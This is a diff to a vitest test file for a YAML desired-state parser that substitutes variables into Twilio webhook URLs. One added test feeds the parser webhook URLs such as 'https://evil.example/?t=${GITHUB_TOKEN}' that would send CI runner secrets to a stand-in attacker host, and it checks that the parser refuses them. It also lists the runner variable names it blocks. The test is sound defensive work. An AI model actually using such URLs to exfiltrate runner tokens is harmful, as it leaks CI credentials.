@@ -1,6 +1,10 @@
 import { describe, expect, it } from 'vitest';
 import { parseDesiredState } from '../../src/desired-state.js';
-import { DesiredStateError, resolveServices } from '../../src/service-names.js';
+import {
+  DesiredStateError,
+  MAX_LISTED_PROBLEMS,
+  resolveServices,
+} from '../../src/service-names.js';
 import type { DesiredState, DesiredStateProblem } from '../../src/service-names.js';
 import { InputError } from '../../src/errors.js';
 import { parseSettings } from '../../src/settings.js';
@@ -33,7 +37,7 @@ function expectProblems(
   problems: readonly DesiredStateProblem[],
   expected: readonly Expected[],
 ): void {
-  expect(problems).toEqual(
+  expect(problems.map(({ line, key, message }) => ({ line, key, message }))).toEqual(
     expected.map(([line, key, fragment]) => ({
       line,
       key,
@@ -84,6 +88,7 @@ const EXAMPLE_STATE: DesiredState = {
       line: 11,
     },
   ],
+  variables: [{ name: 'PREVIEW_URL', value: 'https://pr-12.preview.example.com' }],
 };
 
 describe('parseDesiredState: what a valid file means', () => {
@@ -178,6 +183,7 @@ describe('parseDesiredState: what a valid file means', () => {
       file: FILE,
       account: undefined,
       services: [{ ref: { sid: SID_A }, desired: { method: 'GET' }, line: 2 }],
+      variables: [],
     });
   });
 
@@ -281,6 +287,43 @@ describe('parseDesiredState: ${NAME}', () => {
       [{ sid: SID_A }, { filters: ['onMessageAdded'] }],
       [{ name: 'Support desk' }, { filters: ['onMessageAdded'] }],
     ]);
+    // Only URLs are shown as the file writes them: a SID or a name is shown as it is.
+    expect(state.variables).toEqual([]);
+  });
+
+  it('remembers the variables each URL was filled in from, to show it as the file writes it', () => {
+    const state = read(
+      lines(
+        'account:',
+        '  pre-webhook-url: ${HOST}/pre?token=${TOKEN}',
+        '  post-webhook-url: https://literal.example.com/post',
+      ),
+      { HOST: 'https://pr-7.example.com', TOKEN: 'bypass-token-1' },
+    );
+    expect(state.variables).toEqual([
+      { name: 'HOST', value: 'https://pr-7.example.com' },
+      { name: 'TOKEN', value: 'bypass-token-1' },
+    ]);
+  });
+
+  it.each([
+    'ACTIONS_RUNTIME_TOKEN',
+    'GITHUB_TOKEN',
+    'RUNNER_TEMP',
+    'INPUT_AUTH-TOKEN',
+    'github_token',
+  ])('refuses the runner variable ${%s}, naming the key', (name) => {
+    const value = `https://evil.example/?t=\${${name.replace('-', '_')}}`;
+    expectProblems(
+      refusal(() => read(file(value), { [name.replace('-', '_')]: 'runner-secret' })).problems,
+      [
+        [
+          2,
+          'account.post-webhook-url',
+          'a variable of the runner: ACTIONS_*, GITHUB_*, RUNNER_* and INPUT_* hold the runner',
+        ],
+      ],
+    );
   });
 
   it.each([
@@ -513,11 +556,6 @@ describe('parseDesiredState: problems, each with its line and key', () => {
       [[2, 'services[0].sid', 'is "IS123": expected IS followed by 32 lower-case hex digits']],
     ],
     [
-      'a sid with upper-case hex digits',
-      lines('services:', `  - sid: IS${SID_B.slice(2).toUpperCase()}`, '    method: GET'),
-      [[2, 'services[0].sid', `has upper-case hex digits: Twilio writes SIDs as`]],
-    ],
-    [
       'an account sid where a service sid belongs',
       lines('services:', `  - sid: AC${SID_B.slice(2).toUpperCase()}`, '    method: GET'),
       [[2, 'services[0].sid', `is "AC${SID_B.slice(2).toUpperCase()}": expected IS followed by`]],
@@ -584,6 +622,28 @@ describe('parseDesiredState: problems, each with its line and key', () => {
     );
     expect(error.name).toBe('DesiredStateError');
     expect(error.file).toBe(FILE);
+  });
+});
+
+describe('DesiredStateError', () => {
+  it('keeps the column of a YAML error, for the annotation on its line', () => {
+    const error = refusal(() => read(lines('account:', '  method: GET: POST')));
+    expect(error.problems).toEqual([expect.objectContaining({ line: 2, column: 11 }) as unknown]);
+  });
+
+  it('lists the first 50 of 100,000 problems and counts the rest, in a message of bounded size', () => {
+    const problems = Array.from({ length: 100_000 }, (_, i) => ({
+      line: i + 1,
+      key: `services[${i}]`,
+      message: `services[${i}] is wrong.`,
+    }));
+    const error = new DesiredStateError(FILE, problems);
+    const listed = error.message.split('\n');
+    expect(listed[0]).toBe(`${FILE} has 100000 problems:`);
+    expect(listed).toHaveLength(1 + MAX_LISTED_PROBLEMS + 1);
+    expect(listed.at(-1)).toBe('…and 99950 more problems, not listed here.');
+    expect(error.problems).toHaveLength(100_000);
+    expect(error.message.length).toBeLessThan(5_000);
   });
 });
 
